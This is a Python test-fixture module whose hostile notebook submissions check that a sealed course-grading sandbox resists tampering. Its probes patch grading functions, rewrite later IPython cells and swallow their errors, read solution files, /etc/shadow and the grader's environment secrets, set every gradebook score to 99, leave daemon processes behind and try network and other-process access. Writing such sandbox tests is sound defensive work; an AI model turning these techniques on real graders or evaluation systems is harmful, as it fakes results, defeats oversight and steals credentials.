"""Probes of sealed grading: answers that attack the grader from inside their own kernel.

Each probe is notebook 01 only, graded with the session's class (tests/conftest.py). A *cheat*
(``earns="honest"``) wraps the useless evaluate() of tests/hostile.py (it returns (0.0, 0.0)) in a
trick that used to make checks pass, and must earn exactly what that answer earns handed in
honestly. A *prober* (``earns="full"``) is a right evaluate() that also tries to reach outside its
notebook (files, the gradebook, the network, the environment, other processes) and must keep every
point and leave no trace. Every probe prints one line ``PROBE <student> <json>`` saying what it
saw, the first time evaluate() runs; tests/test_sealed_grading.py reads those lines.

Placeholders filled in when the class is written: ``COURSE`` (the scratch course's folder),
``PORT`` (a TCP port on 127.0.0.1 the tests listen on), ``MARKER`` (a word every trace would hold),
``SECRET`` (the name of an environment variable the grader holds).
"""
from __future__ import annotations

from dataclasses import dataclass

NB1 = "01_overfitting"


@dataclass(frozen=True)
class Probe:
    """One probing submission: its evaluate() cell and what it must earn."""

    code: str
    earns: str  # "honest": what the useless answer earns; "full": every point of notebook 01


_ONCE = '''
import json as _json

_PROBE_DONE = []


def _report(found):
    """Print what the probe saw, once."""
    if not _PROBE_DONE:
        _PROBE_DONE.append(True)
        print("PROBE", "STUDENT", _json.dumps(found, default=str))
'''

_USELESS = '''

def evaluate(images, labels, weights_0_1, weights_1_2):
    """Measures nothing; the trick above is supposed to make that pass."""
    _report(_trick())
    return 0.0, 0.0
'''

_RIGHT = '''

def evaluate(images, labels, weights_0_1, weights_1_2):
    """The right test loop, plus a probe."""
    _report(_probe())
    layer_2 = relu(images @ weights_0_1) @ weights_1_2
    error = np.sum((labels - layer_2) ** 2) / len(images)
    accuracy = np.mean(np.argmax(layer_2, axis=1) == np.argmax(labels, axis=1))
    return float(error), float(accuracy)
'''


def _cheat(trick: str) -> Probe:
    """Return a cheat: ``trick`` defines _trick(), run before the useless answer."""
    return Probe(_ONCE + trick + _USELESS, "honest")


def _prober(probe: str) -> Probe:
    """Return a prober: ``probe`` defines _probe(), run inside a right answer."""
    return Probe(_ONCE + probe + _RIGHT, "full")


PROBES: dict[str, Probe] = {
    # 1. changing the checking objects themselves, not their names
    "sealed_edits_checks_in_place": _cheat('''
import helpers, helpers.grading


def _trick():
    """Give every checking function the code of one that never complains, in place."""
    quiet = (lambda *args, **kwargs: None).__code__
    changed = []
    for function in (helpers.grading.check, helpers.grading.explain, helpers.grading.parts, np.isclose,
                     np.allclose, np.array_equal):
        try:
            function.__code__ = quiet
            changed.append(function.__name__)
        except (AttributeError, TypeError, ValueError):
            pass
    helpers.grading.number.__code__ = (lambda value, what: 1.0661408024532062).__code__
    helpers.grading.CheckFailed.__init__ = lambda self, *args: None
    helpers.grading.CheckFailed.__str__ = lambda self: ""
    return {"changed": changed}
'''),
    # 2. IPython's own pipeline: every later cell rewritten before it runs, errors swallowed
    "sealed_rewrites_cells": _cheat('''
import ast


class _Everything(ast.NodeTransformer):
    """Rewrite every later cell into one that prints what a passing check prints."""

    def visit_Module(self, node):
        return ast.parse("print('Mean error: OK 1.066141')")


def _trick():
    """Rewrite each later cell (text and tree) and swallow every error the kernel shows."""
    shell = get_ipython()
    if not getattr(shell, "_probe_rewired", False):
        shell._probe_rewired = True
        shell.input_transformers_post.append(lambda lines: ["print('Accuracy: OK 0.1405')\\n"])
        shell.ast_transformers.append(_Everything())
        shell.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
        shell.events.register("pre_run_cell", lambda *args: None)
    return {"rewired": True}
'''),
    # 3. a thread beside the checks, putting the tricks back as fast as they are undone
    "sealed_thread_beside_checks": _cheat('''
import threading
import time

import helpers, helpers.grading


def _keep_rebinding():
    """Every millisecond: checks that never complain, comparisons that always agree."""
    while True:
        helpers.check = helpers.grading.check = lambda condition, message: None
        np.isclose = np.allclose = lambda *args, **kwargs: True
        print("Mean error: OK 1.066141", flush=True)
        time.sleep(0.001)


def _trick():
    """Start the thread once."""
    if not [t for t in threading.enumerate() if t.name == "probe"]:
        threading.Thread(target=_keep_rebinding, name="probe", daemon=True).start()
    return {"thread": True}
'''),
    # 4. frames and the garbage collector: the caller's variables, every function alive
    "sealed_frames_and_gc": _cheat('''
import gc
import sys


def _trick():
    """Walk up the calling frames and through every object alive, making whatever checks there pass."""
    seen = {"frames": 0, "functions": 0}
    frame = sys._getframe(1)
    while frame is not None:
        seen["frames"] += 1
        for name in ("check", "number", "parts", "explain"):
            if name in frame.f_globals:
                frame.f_globals[name] = lambda *args, **kwargs: None
        frame = frame.f_back
    quiet = (lambda *args, **kwargs: None).__code__
    for thing in gc.get_objects():
        if type(thing).__name__ == "function" and thing.__name__ in ("check", "explain", "isclose", "allclose"):
            try:
                thing.__code__ = quiet
                seen["functions"] += 1
            except (AttributeError, TypeError, ValueError):
                pass
    return seen
'''),
    # 5. the answers and the grades, where the grading machine keeps them
    "sealed_reads_answers": Probe(_ONCE + '''
import glob
import json
import os


def _look():
    """Return the solution notebooks, gradebooks and private files this process can read."""
    places = ["COURSE/solutions/ch8/01_overfitting.ipynb", "COURSE/course/gradebook.db", "COURSE/nbgrader_config.py",
              "../../../solutions/ch8/01_overfitting.ipynb", "/root/.bash_history", "/proc/1/environ",
              "/etc/shadow", "/etc/passwd"]
    places += glob.glob("/*/*/solutions/ch8/*.ipynb") + glob.glob("/*/solutions/ch8/*.ipynb")
    return sorted({place for place in places if os.path.isfile(place) and os.access(place, os.R_OK)})


def evaluate(images, labels, weights_0_1, weights_1_2):
    """Runs the instructor's own answer if it can find one; otherwise measures nothing."""
    found = _look()
    _report({"found": found})
    for path in found:
        if path.endswith("01_overfitting.ipynb"):
            cells = json.load(open(path))["cells"]
            source = next("".join(c["source"]) for c in cells
                          if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "nb01-evaluate")
            scope = dict(globals())
            exec("\\n".join(line for line in source.splitlines() if "###" not in line), scope)
            return scope["evaluate"](images, labels, weights_0_1, weights_1_2)
    return 0.0, 0.0
''', "honest"),
    # 6. writing outside its own folder: the course, other students, the grader's temporary folders
    "sealed_writes_outside": _prober('''
import os


def _probe():
    """Try to leave a file everywhere a grader would notice it; return where the system said yes."""
    places = ["COURSE", "COURSE/course", "COURSE/course/submitted/complete/ch8", "COURSE/solutions/ch8",
              "COURSE/course/grading_status", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"),
              "../../..", "/"]
    written = []
    for place in places:
        try:
            with open(os.path.join(place, "MARKER-written.txt"), "w") as out:
                out.write("MARKER")
            written.append(place)
        except OSError:
            pass
    return {"written": written}
'''),
    # 7. the gradebook itself
    "sealed_edits_gradebook": _prober('''
import sqlite3


def _probe():
    """Try to give everyone full marks in the gradebook."""
    try:
        db = sqlite3.connect("file:COURSE/course/gradebook.db?mode=rw", uri=True, timeout=1)
        db.execute("UPDATE grade SET auto_score = 99")
        db.commit()
        return {"gradebook": "changed"}
    except sqlite3.Error as error:
        return {"gradebook": f"refused: {error}"}
'''),
    # 8. processes that outlive the notebook: a child, and a daemon that left its session
    "sealed_leaves_processes": _prober('''
import os
import subprocess
import sys


def _probe():
    """Start a sleeper and a double-forked daemon, both meant to outlive grading."""
    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "MARKER-sleeper"],
                               start_new_session=True)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "MARKER-daemon"])
        os._exit(0)
    return {"sleeper": sleeper.pid}
'''),
    # 9. the grader's environment: tokens, passwords, database addresses
    "sealed_reads_environment": _prober('''
import os


def _probe():
    """Look for the grader's secrets in this process's environment and in process 1's."""
    seen = dict(os.environ)
    try:
        seen.update(dict(line.split("=", 1) for line in open("/proc/1/environ").read().split("\\0") if "=" in line))
    except OSError:
        pass
    return {"names": sorted(seen), "secret": seen.get("SECRET"), "gradebook": seen.get("LAB_GRADEBOOK_URL")}
'''),
    # 10. the network, loopback included
    "sealed_uses_network": _prober('''
import socket


def _probe():
    """Try the grading machine's loopback (a port the tests listen on) and the outside world."""
    reached = []
    for host, port in (("127.0.0.1", PORT), ("localhost", PORT), ("1.1.1.1", 53)):
        try:
            socket.create_connection((host, port), timeout=2).close()
            reached.append(f"{host}:{port}")
        except OSError:
            pass
    return {"reached": reached}
'''),
    # 11. the kernel zygote and the other kernels: find them, signal them, read their memory
    "sealed_touches_other_processes": _prober('''
import os


def _probe():
    """List every process this one can see, try to read their memory and whether it may signal them."""
    me = os.getpid()
    visible = sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
    touched = []
    for pid in visible:
        if pid in (me, 1):
            continue
        try:
            open(f"/proc/{pid}/mem", "rb").close()
            touched.append(f"mem {pid}")
        except OSError:
            pass
    mine = {int(task) for task in os.listdir("/proc/self/task")}  # its own threads have ids too
    for pid in range(1, 50):
        if pid not in mine | {1, os.getppid()}:
            try:
                os.kill(pid, 0)  # signal 0: only asks whether a signal could be sent
                touched.append(f"could signal {pid}")
            except OSError:
                pass
    return {"visible": visible, "touched": touched, "parent": os.getppid()}
'''),
}


def probe_code(name: str, course: str, port: int, marker: str, secret: str) -> str:
    """Return the evaluate() cell of probe ``name`` with its placeholders filled in."""
    code = PROBES[name].code
    for key, value in (("COURSE", course), ("PORT", str(port)), ("MARKER", marker), ("SECRET", secret),
                       ("STUDENT", name)):
        code = code.replace(key, value)
    return code
